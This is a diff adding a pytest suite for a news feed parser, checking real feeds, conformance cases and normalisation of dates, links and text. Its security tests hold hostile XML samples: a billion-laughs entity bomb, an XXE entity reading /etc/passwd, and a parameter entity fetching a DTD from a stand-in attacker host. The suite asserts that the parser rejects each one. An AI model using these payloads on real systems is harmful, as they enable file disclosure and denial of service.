@@ -1,0 +1,464 @@
+"""Feed normaliser: captured real feeds, feedparser's conformance suite, and unit cases."""
+
+from __future__ import annotations
+
+import os
+import re
+import time
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from transforms.errors import FeedRejectedError, TransformError
+from transforms.feeds import SUMMARY_MAX_CHARS, ParsedFeed, parse_feed
+
+# <repo>/../shared/corpus: the corpus sits beside the repository, not inside it.
+CORPUS = Path(
+    os.environ.get("NEWSROOM_CORPUS", Path(__file__).resolve().parents[2].parent / "shared" / "corpus")
+)
+REAL_DIR = CORPUS / "feeds" / "real"
+CONFORMANCE_DIR = CORPUS / "feeds" / "conformance"
+FEED_URL = "https://news.example/feeds/main.xml"
+
+# Files in feeds/real that are not feeds, or hold no items, each with the reason.
+REAL_WITHOUT_ITEMS = {
+    "feedjira/history_removed/GoogleBlogSearchpauldix.xml": "a valid Atom feed with zero entries",
+    "feedjira/history_removed/google-reader-subscriptions.xml": "an OPML subscription list",
+    "feedjira/history_removed/JoomlapoweredSite.xml": "an HTML page",
+    "feedjira/history_removed/SFRubyorgHome.xml": "an HTML page",
+    "feedjira/history_removed/scRUBYt.xml": "an HTML page",
+    "feedjira/history_removed/titleunknown.xml": "an HTML page (a blog login form)",
+    "feedjira/history_removed/PaulDixExplainsNothingFirstEntryContent.xml": "an HTML fragment (entry content)",
+    "feedjira/sample_feeds/PaulDixExplainsNothingFirstEntryContent.xml": "an HTML fragment (entry content)",
+    "feedjira/sample_feeds/AmazonWebServicesBlogFirstEntryContent.xml": "an HTML fragment (entry content)",
+    "feedjira/sample_feeds/HREFConsideredHarmfulFirstEntry.xml": "an HTML fragment (entry content)",
+    "feedjira/sample_feeds/TechCrunchFirstEntry.xml": "an HTML fragment (entry content)",
+    "feedjira/sample_feeds/TechCrunchFirstEntryDescription.xml": "an HTML fragment (entry description)",
+    "feedjira/sample_feeds/TenderLovemakingFirstEntry.xml": "an HTML fragment (entry content)",
+    "rsparser/ScriptingNews.json": "Dave Winer's RSS-in-JSON format, not JSON Feed",
+    "rsparser/allthis-partial.json": "a JSON Feed cut off mid-document (invalid JSON)",
+}
+# Conformance cases refused before parsing: both declare entities in their DOCTYPE.
+CONFORMANCE_REJECTED = {
+    "wellformed/rdf/doctype_contains_entity_decl.xml",  # external parameter entity %HTMLlat1
+    "wellformed/rss/entity_in_doctype.xml",  # internal entity &id;
+}
+
+
+def _real_feed_files() -> list[Path]:
+    if not REAL_DIR.is_dir():
+        return []
+    return sorted(
+        p
+        for p in REAL_DIR.rglob("*")
+        if p.is_file() and p.name != "LICENSE" and p.suffix not in (".html", ".opml")
+    )
+
+
+REAL_FILES = _real_feed_files()
+
+
+@pytest.mark.skipif(
+    not REAL_DIR.is_dir(), reason=f"feed corpus not found at {REAL_DIR} (set NEWSROOM_CORPUS)"
+)
+def test_real_corpus_is_complete() -> None:
+    # 224 feedjira + 45 rsparser files, less 6 .html and 2 .opml pages.
+    assert len(REAL_FILES) == 261
+    missing = set(REAL_WITHOUT_ITEMS) - {p.relative_to(REAL_DIR).as_posix() for p in REAL_FILES}
+    assert not missing
+
+
+@pytest.mark.parametrize("path", REAL_FILES, ids=[p.relative_to(REAL_DIR).as_posix() for p in REAL_FILES])
+def test_real_feed_parses(path: Path) -> None:
+    key = path.relative_to(REAL_DIR).as_posix()
+    feed = parse_feed(path.read_bytes(), FEED_URL)
+    if key in REAL_WITHOUT_ITEMS:
+        assert feed.items == ()
+        return
+    assert feed.items, f"no items; malformed={feed.is_malformed} error={feed.error}"
+    for item in feed.items:
+        assert item.guid
+        assert item.link is None or item.link.startswith(("http://", "https://"))
+        assert item.title == item.title.strip() and "  " not in item.title
+        assert len(item.summary) <= SUMMARY_MAX_CHARS
+        for moment in (item.published_at, item.updated_at):
+            assert moment is None or moment.tzinfo is UTC
+    assert len({item.guid for item in feed.items}) == len(feed.items)
+    assert (feed.error is not None) == feed.is_malformed
+
+
+def _conformance_headers(raw: bytes) -> dict[str, str]:
+    """The ``Header:`` lines of a conformance case's opening comment (HTTP response headers)."""
+    head = raw[:2048].decode("latin-1")
+    headers: dict[str, str] = {}
+    for match in re.finditer(r"^Header:\s*([\w-]+):[ \t]*(.*?)\s*$", head, re.MULTILINE):
+        headers[match.group(1)] = match.group(2)
+    return headers
+
+
+@pytest.mark.skipif(not CONFORMANCE_DIR.is_dir(), reason=f"feed corpus not found at {CONFORMANCE_DIR}")
+def test_conformance_cases_never_raise() -> None:
+    files = sorted(p for p in CONFORMANCE_DIR.rglob("*") if p.is_file() and p.name != "LICENSE")
+    assert len(files) == 2107  # 2,106 XML cases and one JSON Feed case
+    started = time.perf_counter()
+    rejected: set[str] = set()
+    malformed = with_items = 0
+    for path in files:
+        raw = path.read_bytes()
+        key = path.relative_to(CONFORMANCE_DIR).as_posix()
+        try:
+            feed = parse_feed(raw, f"http://127.0.0.1:8097/tests/{key}", headers=_conformance_headers(raw))
+        except FeedRejectedError as e:
+            assert e.reason and e.url
+            rejected.add(key)
+            continue
+        assert isinstance(feed, ParsedFeed)
+        malformed += feed.is_malformed
+        with_items += bool(feed.items)
+    elapsed = time.perf_counter() - started
+    print(
+        f"conformance: {len(files)} run, {len(rejected)} rejected, {malformed} malformed, "
+        f"{with_items} with items, {elapsed:.1f}s"
+    )
+    assert rejected == CONFORMANCE_REJECTED
+
+
+# is_malformed disagrees with the suite's "bozo" expectation only here, on purpose.
+BOZO_DISAGREEMENTS = {
+    # A text/plain Content-Type is a server fault, not a malformed document.
+    "encoding/bozo_http_text_plain.xml",
+    "encoding/bozo_http_text_plain_charset.xml",
+    # Channel-only CDF documents: no items and not RSS/Atom/RDF, so "not a recognised feed".
+    "wellformed/cdf/channel_abstract_map_description.xml",
+    "wellformed/cdf/channel_abstract_map_tagline.xml",
+    "wellformed/cdf/channel_href_map_link.xml",
+    "wellformed/cdf/channel_href_map_links.xml",
+    "wellformed/cdf/channel_lastmod.xml",
+    "wellformed/cdf/channel_lastmod_parsed.xml",
+    "wellformed/cdf/channel_title.xml",
+}
+
+
+@pytest.mark.skipif(not CONFORMANCE_DIR.is_dir(), reason=f"feed corpus not found at {CONFORMANCE_DIR}")
+def test_is_malformed_agrees_with_conformance_bozo_expectations() -> None:
+    checked = 0
+    disagreements: set[str] = set()
+    for path in sorted(CONFORMANCE_DIR.rglob("*.xml")):
+        raw = path.read_bytes()
+        expect = re.search(r"Expect:\s*(not bozo|bozo)\b", raw[:3000].decode("latin-1"))
+        key = path.relative_to(CONFORMANCE_DIR).as_posix()
+        if not expect or key in CONFORMANCE_REJECTED:
+            continue
+        feed = parse_feed(raw, f"http://127.0.0.1:8097/tests/{key}", headers=_conformance_headers(raw))
+        checked += 1
+        if feed.is_malformed != (expect.group(1) == "bozo"):
+            disagreements.add(key)
+    assert checked > 1700
+    assert disagreements == BOZO_DISAGREEMENTS
+
+
+# --- security ------------------------------------------------------------------------------------
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<rss version="2.0"><channel><title>&lol9;</title><item><title>x</title></item></channel></rss>"""
+
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
+<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""
+
+PARAMETER_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
+<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""
+
+
+@pytest.mark.parametrize(
+    ("body", "reason"),
+    [
+        (BILLION_LAUGHS, "refusing entity expansion"),
+        (XXE, "external entity"),
+        (PARAMETER_ENTITY, "external entity (%remote)"),
+        (BILLION_LAUGHS.decode().encode("utf-16"), "refusing entity expansion"),
+        (b"  \n" + BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b""), "refusing entity expansion"),
+        (b"<!-- x -->" + BILLION_LAUGHS.replace(b"DOCTYPE", b"doctype"), "refusing entity expansion"),
+    ],
+    ids=["billion-laughs", "external-entity", "parameter-entity", "utf16", "leading-space", "lowercase"],
+)
+def test_entity_declarations_are_rejected(body: bytes, reason: str) -> None:
+    with pytest.raises(FeedRejectedError, match=re.escape(reason)) as info:
+        parse_feed(body, FEED_URL)
+    assert info.value.url == FEED_URL
+    assert isinstance(info.value, TransformError)
+
+
+def test_plain_doctype_without_internal_subset_is_fine() -> None:
+    body = b"""<?xml version="1.0"?>
+<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
+  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
+<rss version="0.91"><channel><title>Old</title><link>http://old.example/</link>
+<item><title>One</title><link>http://old.example/1</link></item></channel></rss>"""
+    feed = parse_feed(body, FEED_URL)
+    assert [i.link for i in feed.items] == ["http://old.example/1"]
+    assert not feed.is_malformed
+
+
+def test_oversized_body_is_rejected() -> None:
+    body = b"<rss><channel>" + b" " * 2000 + b"</channel></rss>"
+    with pytest.raises(FeedRejectedError, match="over the 1,000-byte cap"):
+        parse_feed(body, FEED_URL, max_bytes=1000)
+    with pytest.raises(FeedRejectedError):
+        parse_feed(b" " * (10 * 1024 * 1024 + 1), FEED_URL)
+
+
+def test_body_is_never_opened_as_a_file_name() -> None:
+    # feedparser.parse(bytes) would open() this path; we hand it a file-like object instead.
+    feed = parse_feed(b"/etc/hostname", FEED_URL)
+    assert feed.items == () and feed.is_malformed
+
+
+@pytest.mark.parametrize("kwargs", [{"max_items": 0}, {"max_bytes": 0}], ids=["max_items", "max_bytes"])
+def test_bad_arguments(kwargs: dict[str, int]) -> None:
+    with pytest.raises(ValueError):
+        parse_feed(
+            b"<rss/>", FEED_URL, max_items=kwargs.get("max_items", 10), max_bytes=kwargs.get("max_bytes", 10)
+        )
+
+
+# --- normalisation -------------------------------------------------------------------------------
+
+
+def _rss(items: str, channel: str = "", rss_attrs: str = "") -> bytes:
+    return (
+        f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" {rss_attrs}><channel>'
+        f"<title>Example News</title><link>https://news.example/</link>{channel}{items}</channel></rss>"
+    ).encode()
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        "not a date",
+        "2024-13-45T99:00:00Z",
+        "Tue, 99 Foo 0000 25:61:00 GMT",
+        "0000-00-00",
+        "",
+        "Mon, 01 Jan 99999",
+    ],
+    ids=["words", "out-of-range", "bad-rfc822", "zeros", "empty", "huge-year"],
+)
+def test_garbage_dates_become_none(raw: str) -> None:
+    feed = parse_feed(_rss(f"<item><title>x</title><pubDate>{raw}</pubDate></item>"), FEED_URL)
+    (item,) = feed.items
+    assert item.published_at is None and item.updated_at is None
+
+
+def test_dates_are_utc() -> None:
+    feed = parse_feed(
+        _rss("<item><title>x</title><pubDate>Wed, 01 May 2024 10:00:00 +0200</pubDate></item>"), FEED_URL
+    )
+    assert feed.items[0].published_at == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
+
+
+def test_relative_links_are_resolved() -> None:
+    rss = _rss(
+        "<item><title>a</title><link>/2024/a.html</link></item>"
+        "<item><title>b</title><link>b.html</link><guid>12345</guid></item>"
+        "<item><title>c</title><link>javascript:alert(1)</link></item>"
+    )
+    feed = parse_feed(rss, FEED_URL)
+    assert [i.link for i in feed.items] == [
+        "https://news.example/2024/a.html",
+        "https://news.example/feeds/b.html",
+        None,
+    ]
+    assert feed.items[1].guid == "12345"  # a guid is a key, not a URL to resolve
+
+    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/posts/">
+<title>B</title><link rel="alternate" href="/"/>
+<entry><id>tag:blog.example,2024:1</id><title>One</title><link href="one"/>
+<updated>2024-01-02T03:04:05Z</updated></entry></feed>"""
+    feed = parse_feed(atom, FEED_URL)
+    assert feed.link == "https://blog.example/"
+    assert feed.items[0].link == "https://blog.example/posts/one"
+    assert feed.items[0].published_at == datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)  # falls back to updated
+
+    feed = parse_feed(
+        _rss("<item><link>x</link></item>"), FEED_URL, headers={"Content-Location": "/elsewhere/"}
+    )
+    assert feed.items[0].link == "https://news.example/elsewhere/x"
+
+
+def test_titles_and_summaries_are_plain_text() -> None:
+    long = "word " * 400
+    feed = parse_feed(
+        _rss(
+            "<item><title><![CDATA[ <b>Bold</b>   &amp; caf&eacute;\n news ]]></title>"
+            "<description>&lt;p&gt;Hello &amp;amp; &lt;script&gt;evil()&lt;/script&gt;world&lt;/p&gt;</description>"
+            "</item>"
+            f"<item><title>Long</title><description>{long}</description></item>"
+        ),
+        FEED_URL,
+    )
+    first, second = feed.items
+    assert first.title == "Bold & café news"
+    assert first.summary == "Hello & world"
+    assert len(second.summary) <= SUMMARY_MAX_CHARS and second.summary.endswith("\u2026")
+
+
+def test_guid_fallbacks_are_stable() -> None:
+    body = _rss(
+        "<item><title>Has guid</title><guid isPermaLink='false'>abc-1</guid><link>https://n.example/1</link></item>"
+        "<item><title>Link only</title><link>https://n.example/2</link></item>"
+        "<item><title>Neither</title><pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate></item>"
+    )
+    a = parse_feed(body, FEED_URL)
+    b = parse_feed(body, "https://other.example/feed")
+    assert [i.guid for i in a.items][:2] == ["abc-1", "https://n.example/2"]
+    assert a.items[2].guid.startswith("sha1:") and a.items[2].guid == b.items[2].guid
+
+
+def test_max_items_and_duplicate_guids() -> None:
+    items = "".join(f"<item><guid>g{n % 5}</guid><title>{n}</title></item>" for n in range(10))
+    assert [i.title for i in parse_feed(_rss(items), FEED_URL).items] == ["0", "1", "2", "3", "4"]
+    assert len(parse_feed(_rss(items), FEED_URL, max_items=2).items) == 2
+
+
+def test_channel_fields_ttl_skip_hours_days_and_hub() -> None:
+    body = _rss(
+        "<item><title>x</title></item>",
+        channel=(
+            "<language>en_GB</language><ttl>30</ttl>"
+            "<skipHours><hour>0</hour><hour>7</hour><hour>24</hour><hour>99</hour></skipHours>"
+            "<skipDays><day>Saturday</day><day>sunday</day><day>Caturday</day></skipDays>"
+            '<atom:link rel="hub" href="https://pubsubhubbub.example/"/>'
+            '<atom:link rel="self" type="application/rss+xml" href="/feeds/main.xml"/>'
+        ),
+        rss_attrs='xmlns:atom="http://www.w3.org/2005/Atom"',
+    )
+    feed = parse_feed(body, FEED_URL)
+    assert feed.ttl_minutes == 30
+    assert feed.skip_hours == frozenset({0, 7})
+    assert feed.skip_days == frozenset({"Saturday", "Sunday"})
+    assert feed.hub_url == "https://pubsubhubbub.example/"
+    assert feed.self_url == "https://news.example/feeds/main.xml"
+    assert feed.language == "en-gb" and feed.items[0].language == "en-gb"
+    assert not feed.is_malformed
+
+    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>
+<link rel="hub" href="https://hub.example/"/><link rel="self" href="https://a.example/atom"/>
+<entry><id>1</id><title>e</title></entry></feed>"""
+    feed = parse_feed(atom, FEED_URL)
+    assert (feed.hub_url, feed.self_url, feed.ttl_minutes) == (
+        "https://hub.example/",
+        "https://a.example/atom",
+        None,
+    )
+
+
+def test_images_from_media_and_enclosures() -> None:
+    body = _rss(
+        "<item><title>a</title><media:content url='/img/a.jpg' medium='image'/></item>"
+        "<item><title>b</title><media:thumbnail url='https://cdn.example/b.png'/></item>"
+        "<item><title>c</title><enclosure url='https://cdn.example/c.webp' type='image/webp' length='1'/></item>"
+        "<item><title>d</title><enclosure url='https://cdn.example/d.mp3' type='audio/mpeg' length='1'/></item>",
+        rss_attrs='xmlns:media="http://search.yahoo.com/mrss/"',
+    )
+    images = [i.image_url for i in parse_feed(body, FEED_URL).items]
+    assert images == [
+        "https://news.example/img/a.jpg",
+        "https://cdn.example/b.png",
+        "https://cdn.example/c.webp",
+        None,
+    ]
+
+
+def test_news_sitemap() -> None:
+    body = b"""<?xml version="1.0" encoding="UTF-8"?>
+<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
+        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
+        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
+  <url>
+    <loc>https://news.example/business/article55.html</loc>
+    <news:news>
+      <news:publication><news:name>The Example Times</news:name><news:language>en</news:language></news:publication>
+      <news:publication_date>2024-05-01T10:00:00+02:00</news:publication_date>
+      <news:title>Companies A &amp; B in merger talks</news:title>
+      <news:keywords>business, merger</news:keywords>
+    </news:news>
+    <image:image><image:loc>https://news.example/img/55.jpg</image:loc></image:image>
+  </url>
+  <url>
+    <loc>/world/article56.html</loc>
+    <news:news>
+      <news:publication><news:name>The Example Times</news:name><news:language>en</news:language></news:publication>
+      <news:publication_date>yesterday-ish</news:publication_date>
+      <news:title>Second</news:title>
+    </news:news>
+  </url>
+  <url><loc>https://news.example/about</loc></url>
+</urlset>"""
+    feed = parse_feed(body, "https://news.example/sitemap-news.xml")
+    assert feed.title == "The Example Times" and feed.language == "en" and not feed.is_malformed
+    first, second = feed.items
+    assert first.guid == first.link == "https://news.example/business/article55.html"
+    assert first.title == "Companies A & B in merger talks"
+    assert first.published_at == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
+    assert first.categories == ("business", "merger")
+    assert first.image_url == "https://news.example/img/55.jpg"
+    assert second.link == "https://news.example/world/article56.html" and second.published_at is None
+
+    broken = parse_feed(body[:-20], "https://news.example/sitemap-news.xml")
+    assert broken.is_malformed and broken.error and broken.items == ()
+
+
+def test_wrong_charset_header_still_yields_items() -> None:
+    # The server says UTF-8 but sends windows-1252: feedparser falls back and flags it.
+    body = (
+        '<?xml version="1.0"?><rss version="2.0"><channel><title>Caf\u00e9</title>'
+        "<item><title>Cr\u00e8me br\u00fbl\u00e9e \u2013 recipe</title><link>https://n.example/1</link></item>"
+        "</channel></rss>"
+    ).encode("cp1252")
+    feed = parse_feed(body, FEED_URL, headers={"Content-Type": "application/rss+xml; charset=utf-8"})
+    assert [i.title for i in feed.items] == ["Cr\u00e8me br\u00fbl\u00e9e \u2013 recipe"]
+    assert feed.is_malformed and feed.error and "CharacterEncodingOverride" in feed.error
+
+    # A charset header that names no real encoding at all.
+    feed = parse_feed(body, FEED_URL, headers={"content-type": "text/xml; charset=klingon"})
+    assert len(feed.items) == 1
+
+    # No header, no declaration, UTF-16 with a BOM.
+    utf16 = '<rss version="2.0"><channel><item><title>\u65b0\u95fb</title></item></channel></rss>'.encode(
+        "utf-16"
+    )
+    assert parse_feed(utf16, FEED_URL).items[0].title == "\u65b0\u95fb"
+
+
+def test_not_a_feed_is_malformed_not_an_error() -> None:
+    feed = parse_feed(b"<!DOCTYPE html><html><body><p>Hello</p></body></html>", FEED_URL)
+    assert feed.items == () and feed.is_malformed and feed.error
+
+
+def test_json_feed() -> None:
+    body = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "J", "home_page_url": "https://j.example/",
+      "feed_url": "https://j.example/feed.json", "language": "fr",
+      "hubs": [{"type": "WebSub", "url": "https://hub.example/"}],
+      "items": [{"id": 7, "url": "/p/7", "title": "T &amp; U", "content_html": "<p>Body</p>",
+                 "date_published": "2024-05-01T10:00:00Z", "tags": ["x"], "image": "/i.png",
+                 "authors": [{"name": "Ann"}]}]}"""
+    feed = parse_feed(body, FEED_URL)
+    (item,) = feed.items
+    assert (feed.title, feed.link, feed.hub_url, feed.language) == (
+        "J",
+        "https://j.example/",
+        "https://hub.example/",
+        "fr",
+    )
+    assert (item.guid, item.link, item.title, item.summary) == ("7", "https://j.example/p/7", "T & U", "Body")
+    assert item.published_at == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
+    assert (item.categories, item.author, item.image_url) == (("x",), "Ann", "https://j.example/i.png")
